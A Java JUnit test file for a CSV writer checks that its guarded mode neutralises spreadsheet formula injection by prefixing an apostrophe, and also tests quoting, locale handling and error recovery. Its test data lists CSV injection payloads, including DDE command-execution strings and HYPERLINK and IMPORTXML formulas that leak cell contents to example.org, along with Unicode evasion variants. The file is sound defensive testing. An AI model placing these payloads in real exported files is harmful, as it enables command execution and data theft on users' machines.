package org.lanet.storage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.google.common.jimfs.Configuration;
import com.google.common.jimfs.Jimfs;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.lanet.error.InvalidArgumentException;
import org.lanet.error.StorageException;
import tech.tablesaw.api.DoubleColumn;
import tech.tablesaw.api.IntColumn;
import tech.tablesaw.api.StringColumn;
import tech.tablesaw.api.Table;

class CsvOutputTest {
  private final Path file;

  CsvOutputTest(@TempDir Path folder) {
    this.file = folder.resolve("new folder").resolve("table.csv");
  }

  /** A text that a spreadsheet would run, and what is written instead. */
  record Attack(String text, String written) {
    static Attack of(String text) {
      return new Attack(text, "'" + text);
    }
  }

  // the first are OWASP's and Payloads All The Things' examples of CSV injection
  static List<Attack> attacks() {
    return List.of(
        Attack.of("=cmd|'/C calc'!A0"),
        Attack.of("=HYPERLINK(\"http://example.org?leak=\"&A1&A2,\"Error: click\")"),
        Attack.of("=2+5+cmd|' /C calc'!A0"),
        Attack.of("@SUM(1+1)*cmd|' /C calc'!A0"),
        Attack.of("+2+5+cmd|' /C calc'!A0"),
        Attack.of("-2+5+cmd|' /C calc'!A0"),
        Attack.of("=IMPORTXML(CONCAT(\"http://example.org?v=\", A1), \"//a\")"),
        Attack.of("=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
        Attack.of("="),
        Attack.of("@"),
        Attack.of("-"),
        Attack.of("+-1"),
        Attack.of("-1+1"),
        Attack.of("-1e5x"),
        Attack.of("-1,5"),
        Attack.of("+49 170 123"),
        new Attack("\t=1+1", "'\t'=1+1"),
        Attack.of("\tharmless"),
        new Attack("\r=1+1", "'\r'=1+1"),
        Attack.of(" =1+1"),
        Attack.of("\u00A0\u2003=1+1"), // no-break and em space
        Attack.of("\uFEFF=1+1"), // byte-order mark
        Attack.of("\u200B=1+1"), // zero-width space
        Attack.of("\u0000=1+1"),
        Attack.of("\u202E=1+1"), // right-to-left override
        Attack.of("\"=1+1\""),
        Attack.of(" \" =1+1"),
        Attack.of("\uFF1D1+1"), // full width
        Attack.of("\uFF0B1+1"),
        Attack.of("\uFF0D1+1"),
        Attack.of("\uFF20SUM(1)"),
        Attack.of("\uFE66SUM(1)"), // small form
        Attack.of("'=1"), // else it would be written as =1 is
        Attack.of("''=1"),
        Attack.of("\u3164=1+1"), // Hangul filler
        Attack.of("\u2800\uFE0F@SUM(1)"), // Braille blank, variation selector
        Attack.of("\uDB40\uDD00=1"),
        new Attack("milk;=1+1", "milk;'=1+1"),
        new Attack("milk; =1+1;-3", "milk;' =1+1;-3"),
        new Attack("milk\";=1+1", "milk\";'=1+1"),
        new Attack("milk\t@SUM(1)", "milk\t'@SUM(1)"),
        new Attack("milk\n=1+1", "milk\n'=1+1"),
        new Attack("milk\r\n\n=1+1", "milk\r\n\n'=1+1"),
        new Attack("-1\n=1+1", "-1\n'=1+1"),
        new Attack("=1;=2", "'=1;'=2"));
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void aTextThatASpreadsheetWouldRunGetsAnApostrophe(Attack attack) throws IOException {
    List<String> row = List.of(attack.text, "1", attack.text);
    CsvOutput.guarded().write(file, List.of(attack.text, "b", "c"), List.of(row));
    List<String> written = List.of(attack.written, "1", attack.written);
    assertThat(read()).containsExactly(List.of(attack.written, "b", "c"), written);
    // two ids stay two, though one has the apostrophe already
    assertThat(CsvOutput.guarded().cell("'" + attack.text)).isNotEqualTo(attack.written);
    CsvOutput.exact().write(file, List.of("a", "b", "c"), List.of(row));
    assertThat(read().get(1)).isEqualTo(row);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "milk",
        "-1",
        "+1",
        "-1.5e-3",
        "+.5",
        "-7.",
        "-1E+300",
        "1+1",
        "a=b",
        "a@b.org",
        "a-b",
        "'milk",
        "–",
        "−1",
        "|cmd",
        "milk, -2 %",
        "milk;-1.5;+2",
        "<img src=x>",
        "../../etc/passwd",
        "🥛"
      })
  void everyOtherTextStaysAsItIs(String text) {
    assertThat(CsvOutput.guarded().cell(text)).isEqualTo(text);
  }

  @Test
  void numbersAreWrittenAsJavaDoesAndMissingOnesAreEmpty() throws IOException {
    CsvOutput.guarded()
        .write(
            file,
            List.of("a", "b", "c", "d"),
            List.of(
                Arrays.asList(-1.5e-3, -0.1f, -7, null),
                Arrays.asList(Double.NEGATIVE_INFINITY, Double.NaN, 1e-300, -1L)));
    assertThat(file).hasContent("a,b,c,d\n-0.0015,-0.1,-7,\n-Infinity,NaN,1.0E-300,-1\n");
  }

  @Test
  void quotesFollowRfc4180WithLineFeeds() throws IOException {
    List<List<String>> rows =
        List.of(List.of("a,b", "say \"a\"", "two\nlines"), List.of("plain", "", "ä€🥛"));
    CsvOutput.guarded().write(file, List.of("x", "y", "z"), rows);
    assertThat(Files.readString(file))
        .isEqualTo(CsvOutput.guarded().text(List.of("x", "y", "z"), rows))
        .isEqualTo("x,y,z\n\"a,b\",\"say \"\"a\"\"\",\"two\nlines\"\nplain,,ä€🥛\n");
  }

  @Test
  void aTableIsWrittenWithItsColumnsNamesAndEmptyCellsWhereAValueIsMissing() throws IOException {
    Table table =
        Table.create(
            "t",
            StringColumn.create("=label", "milk", "@x"),
            DoubleColumn.create("score", -.25, Double.NaN),
            IntColumn.create("rank", 1, -2));
    CsvOutput.guarded().write(file, table);
    assertThat(Files.readString(file)).isEqualTo("'=label,score,rank\nmilk,-0.25,1\n'@x,,-2\n");
    CsvOutput.exact().write(file, table);
    assertThat(Files.readString(file)).isEqualTo("=label,score,rank\nmilk,-0.25,1\n@x,,-2\n");
  }

  @Test
  void theSystemsLanguageChangesNothing() throws IOException {
    Locale before = Locale.getDefault();
    try {
      Locale.setDefault(Locale.GERMANY);
      CsvOutput.guarded().write(file, List.of("a"), List.of(List.of(1234.5)));
    } finally {
      Locale.setDefault(before);
    }
    assertThat(file).hasContent("a\n1234.5\n");
  }

  @Test
  void halfACharacterIsAnErrorAndTheFileBeforeStays() throws IOException {
    CsvOutput.guarded().write(file, List.of("a"), List.of());
    assertThatThrownBy(
            () -> CsvOutput.guarded().write(file, List.of("b"), List.of(List.of("x\uD83E"))))
        .isInstanceOf(InvalidArgumentException.class)
        .hasMessageContaining("has half a character (a lone surrogate) and cannot be written");
    assertThat(Files.readString(file)).isEqualTo("a\n");
    assertThat(file.getParent()).isDirectoryNotContaining("glob:**.new");
  }

  @Test
  void aFullDiskIsAnErrorAndTheFileBeforeStays() throws IOException {
    var settings = Configuration.unix().toBuilder().setBlockSize(512).setMaxSize(1 << 14).build();
    try (var memory = Jimfs.newFileSystem(settings)) {
      Path small = memory.getPath("/out/table.csv");
      CsvOutput.guarded().write(small, List.of("a"), List.of());
      List<List<String>> rows = List.of(List.of("x".repeat(1 << 15)));
      assertThatThrownBy(() -> CsvOutput.guarded().write(small, List.of("a"), rows))
          .isInstanceOf(StorageException.class)
          .hasMessage(
              "file '/out/table.csv' cannot be written: no room for it; the file before it is intact; "
                  + "make room or choose another folder");
      assertThat(Files.readString(small)).isEqualTo("a\n");
    }
  }

  private List<List<String>> read() throws IOException {
    try (CSVParser parser = CSVParser.parse(file, StandardCharsets.UTF_8, CSVFormat.RFC4180)) {
      return parser.stream().map(CSVRecord::toList).toList();
    }
  }
}
